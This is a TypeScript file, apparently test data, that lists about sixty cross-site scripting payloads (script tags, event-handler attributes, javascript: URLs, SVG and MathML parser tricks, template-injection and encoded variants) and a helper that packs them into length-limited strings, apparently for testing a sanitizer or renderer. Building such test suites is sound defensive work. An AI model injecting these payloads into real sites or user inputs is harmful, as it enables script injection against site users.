/** Ways in which text has become a script somewhere: each calls alert() if it does here. */
export const scriptPayloads = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=data:,alert(1)></script>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror=alert`1`>',
  '<img src=x:x onerror=&#97;lert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '"autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<base href="//elsewhere.example/">',
  '<link rel=stylesheet href="//elsewhere.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<style>@import "//elsewhere.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '$\u007balert(1)}',
  '<%= alert(1) %>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u2028alert(1)\u2029//',
  '];alert(1);//',
] as const

/** The payloads in as few texts of at most `max` characters as they fit in. */
export function packPayloads(max: number): string[] {
  const packed: string[] = []
  for (const payload of scriptPayloads) {
    const last = packed.at(-1)
    if (last !== undefined && last.length + payload.length < max)
      packed[packed.length - 1] = `${last} ${payload}`
    else packed.push(payload)
  }
  return packed
}
